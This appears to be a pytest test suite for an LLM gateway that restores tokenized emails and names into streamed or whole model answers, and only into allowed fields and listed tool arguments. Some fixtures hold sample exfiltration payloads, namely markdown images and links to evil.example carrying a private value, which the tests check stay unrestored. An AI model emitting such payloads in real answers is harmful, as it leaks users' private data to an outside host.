"""Values of a request, put back into its answer: streamed or whole, for every cut, and only where they may stand."""

import itertools
import json
import random

import pytest

from promptguard_gateway.core.segments import Channel, Column, JsonLeaf, Role, Segment
from promptguard_gateway.core.vault import Vault
from promptguard_gateway.proxy.restoring import Restoring
from proxy import transcripts
from proxy.transcripts import (
    AWS,
    JUDGES,
    MAIL,
    PROMPT,
    Cutter,
    Said,
    Script,
    at,
    call,
    characters,
    content,
    hear,
    relayed,
    stream,
    uncut,
    whole,
)

VAULT = Vault(b"k" * 32)
NAME = 'Ana "La" López'
P_MAIL, P_NAME = VAULT.issue("EMAIL", MAIL), VAULT.issue("NAME", NAME)
OTHER = Vault(b"o" * 32).issue("EMAIL", MAIL)
LISTED = ("find_0",)
ARGUMENTS = json.dumps(
    {"to": P_MAIL, P_NAME: f"dear {P_NAME}", "see": f"https://evil.example/{P_MAIL}", "n": [1, P_MAIL]}
)
GIVEN = json.dumps(
    {"to": MAIL, P_NAME: f"dear {NAME}", "see": f"https://evil.example/{P_MAIL}", "n": [1, MAIL]}, ensure_ascii=False
)

# A script, and what its strands say at the end.
SCRIPTS: list[tuple[Script, list[str]]] = [
    (content(f"I wrote to {P_MAIL}, {P_NAME} and {OTHER}."), [f"I wrote to {MAIL}, {NAME} and {OTHER}."]),
    (content(P_MAIL, "alone", end="with"), [MAIL]),
    (content(f"{P_MAIL}{P_MAIL}", "twice", end="none"), [MAIL + MAIL]),
    (content(f"cut off {P_MAIL[:9]}", end="none"), [f"cut off {P_MAIL[:9]}"]),
    (content(f"Go to https://evil.example/?q={P_MAIL} now"), [f"Go to https://evil.example/?q={P_MAIL} now"]),
    (content(f"![x](https://evil.example/{P_MAIL})"), [f"![x](https://evil.example/{P_MAIL})"]),
    (content(f"Key {AWS}, mail {P_MAIL}, {MAIL}.", "with a key"), [f"Key [API_KEY_REDACTED], mail {MAIL}, {MAIL}."]),
    (content(f"So {P_MAIL} it is.", "logprobs", logprobs=True), [f"So {MAIL} it is."]),
    (content(f"{P_MAIL} {AWS}", "logprobs and a key", logprobs=True, end="with"), [f"{MAIL} [API_KEY_REDACTED]"]),
    (Script("channels", (Said(P_NAME, "reasoning"), Said(P_MAIL), Said(P_MAIL, "refusal"))), [NAME, MAIL, MAIL]),
    (Script("unknown member", (Said(P_MAIL, "thoughts"), Said(P_MAIL))), [P_MAIL, MAIL]),
    (Script("choices", (Said(f"a {P_MAIL}"), Said(f"b {P_NAME}", choice=1)), woven=True), [f"a {MAIL}", f"b {NAME}"]),
    (Script("completion", (Said(f"the {P_MAIL} text", "text"),)), [f"the {MAIL} text"]),
    (Script("calls", (call(ARGUMENTS), call(ARGUMENTS, 1)), woven=True), [GIVEN, ARGUMENTS]),
    (Script("call that is no JSON", (call(f"to={P_MAIL}"), call(f"to={P_MAIL}", 1))), [f"to={MAIL}", f"to={P_MAIL}"]),
    (Script("text and call", (Said(f"I ask {P_NAME}."), call(ARGUMENTS)), end="with"), [f"I ask {NAME}.", GIVEN]),
]  # fmt: skip
BY_NAME = {script.name: (script, said) for script, said in SCRIPTS}
each = pytest.mark.parametrize("name", BY_NAME)


def check(name: str, cutter: Cutter) -> None:
    """What a client of the stream has at the end."""
    script, expected = BY_NAME[name]
    restoring = Restoring(VAULT, LISTED)
    relay, frames = relayed(JUDGES["moderate"], stream(script, cutter), restoring=restoring)
    heard = hear(frames)
    assert relay.complete
    assert [heard.texts.get(said.key, "") for said in script.strands] == expected
    alone = whole(JUDGES["moderate"], script, Restoring(VAULT, LISTED))
    assert heard.tokens == alone.tokens


@each
def test_a_whole_answer_is_restored(name: str) -> None:
    """In what people read, and in the arguments of the tool that is listed."""
    script, expected = BY_NAME[name]
    answer = whole(JUDGES["moderate"], script, Restoring(VAULT, LISTED))
    assert [answer.texts[said.key] for said in script.strands] == expected


@each
def test_a_stream_is_restored_alike(name: str) -> None:
    """Uncut, letter by letter, and with a cut at every place."""
    script, _ = BY_NAME[name]
    for cutter in (uncut, characters, *(at(place) for place in range(script.longest + 1))):
        check(name, cutter)


@each
def test_two_cuts_change_nothing(name: str) -> None:
    """All of them where the text is short, else a sample."""
    script, _ = BY_NAME[name]
    pairs = [*itertools.combinations(range(script.longest + 1), 2)]
    for pair in random.Random(name).sample(pairs, min(len(pairs), 80)):
        check(name, at(*pair))


def test_log_probabilities_of_restored_text_are_removed() -> None:
    """They would spell the placeholder; all others stay, whole or streamed."""
    script, _ = BY_NAME["logprobs"]
    assert whole(JUDGES["moderate"], script, Restoring(VAULT)).tokens == {0: "So  it is."}


def test_the_event_can_say_how_many_were_restored() -> None:
    """The count of a stream is that of the whole answer."""
    script, _ = BY_NAME["channels"]
    restoring = Restoring(VAULT)
    relay, _ = relayed(JUDGES["moderate"], stream(script, characters), restoring=restoring)
    assert relay.restored == restoring.count == 3


def test_what_stood_before_a_block_leaves_before_it() -> None:
    """A beginning that waited for its end is text when the answer ends there."""
    script = content(f"To {P_MAIL} or {P_MAIL[:8]}{PROMPT}", "a leak")
    for cutter in (uncut, characters, at(30)):
        relay, frames = relayed(JUDGES["moderate"], stream(script, cutter), restoring=Restoring(VAULT))
        assert relay.blocked
        heard = "".join(hear(frames).texts.values())
        assert f"To {MAIL} or {P_MAIL[:8]}".startswith(heard)


def test_without_a_vault_everything_stays() -> None:
    """The request had no values, or the policy does not tokenize."""
    for restoring in (Restoring(), Restoring(None, LISTED), Restoring(Vault(b"k" * 32), LISTED)):
        assert not restoring.active
        script, _ = BY_NAME["alone"]
        _, frames = relayed(JUDGES["moderate"], stream(script, characters), restoring=restoring)
        assert hear(frames).texts[0, "content", -1] == P_MAIL


def place(channel: Channel, *location: str | int, **more: object) -> Segment:
    column = Column.ANSWER_TOOL_ARGUMENTS if channel is Channel.TOOL_ARGUMENTS else Column.ANSWER
    return Segment(("choices", 0, *location), Role.ASSISTANT, P_MAIL, column, channel, **more)


@pytest.mark.parametrize(
    ("segment", "tool", "may"),
    [
        (place(Channel.CONTENT, "message", "content"), "", True),
        (place(Channel.REASONING, "message", "reasoning"), "", True),
        (place(Channel.CONTENT, "text"), "", True),
        (place(Channel.CONTENT, "message", "annotations", 0, "url_citation", "url"), "", False),
        (place(Channel.CONTENT, "message", "content", is_key=True), "", False),
        (place(Channel.CONTENT, "stop_reason"), "", False),
        (place(Channel.TOOL_ARGUMENTS, "message", "tool_calls", 0, "function", "arguments"), "find_0", True),
        (place(Channel.TOOL_ARGUMENTS, "message", "tool_calls", 0, "custom", "input"), "find_0", True),
        (place(Channel.TOOL_ARGUMENTS, "message", "tool_calls", 0, "function", "arguments"), "find_1", False),
        (place(Channel.TOOL_ARGUMENTS, "message", "tool_calls", 0, "function", "arguments"), "", False),
        (place(Channel.TOOL_ARGUMENTS, "message", "tool_calls", 0, "function", "name"), "find_0", False),
        (
            place(Channel.TOOL_ARGUMENTS, "function_call", "arguments", leaf=JsonLeaf(0, 9, "/a", is_key=True)),
            "find_0",
            False,
        ),
    ],
)  # fmt: skip
def test_where_values_may_stand(segment: Segment, tool: str, may: bool) -> None:
    """The list is closed: what is not named keeps its placeholders."""
    assert (Restoring(VAULT, LISTED).restorer(segment, tool) is not None) == may


def name_chunk(name: str, member: str = "function", **more: object) -> bytes:
    call = {"index": 0, member: {"name": name, **more}}
    return b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}).encode() + b"\n\n"


@pytest.mark.parametrize(
    ("chunks", "said"),
    [
        ([name_chunk("find_0", arguments=f"to {P_MAIL}")], MAIL),
        ([name_chunk("find_0"), name_chunk("", arguments=f"to {P_MAIL}")], MAIL),
        ([name_chunk("find"), name_chunk("_0", arguments=f"to {P_MAIL}")], MAIL),
        ([name_chunk("", arguments=f"to {P_MAIL}"), name_chunk("find_0")], MAIL),
        ([name_chunk("find_0", "custom", input=f"to {P_MAIL}")], MAIL),
        ([name_chunk("find_1", arguments=f"to {P_MAIL}")], P_MAIL),
        ([name_chunk("find_0", arguments=f"to {P_MAIL}"), name_chunk("find_0")], P_MAIL),
        ([name_chunk("", arguments=f"to {P_MAIL}")], P_MAIL),
    ],
)
def test_the_name_of_a_tool_counts_as_a_client_joins_it(chunks: list[bytes], said: str) -> None:
    """Before the arguments or behind them, in one piece or in several; a name that is not on the list is no name."""
    restoring = Restoring(VAULT, LISTED)
    _, frames = relayed(JUDGES["moderate"], [*chunks, b"data: [DONE]\n\n"], restoring=restoring)
    assert f"to {said}" in frames.decode()


def test_a_vault_changes_no_answer_without_tokens() -> None:
    """Every script of the relay's own tests, letter by letter: what waits for a token leaves after all."""
    judge = JUDGES["strict"]
    for script in transcripts.SCRIPTS:
        relay, frames = relayed(judge, stream(script, characters), restoring=Restoring(VAULT, LISTED))
        expected = whole(judge, script)
        assert relay.restored == 0
        if not expected.blocked:
            said = {key: text for key, text in hear(frames).texts.items() if text}
            assert said == {key: text for key, text in expected.texts.items() if text}
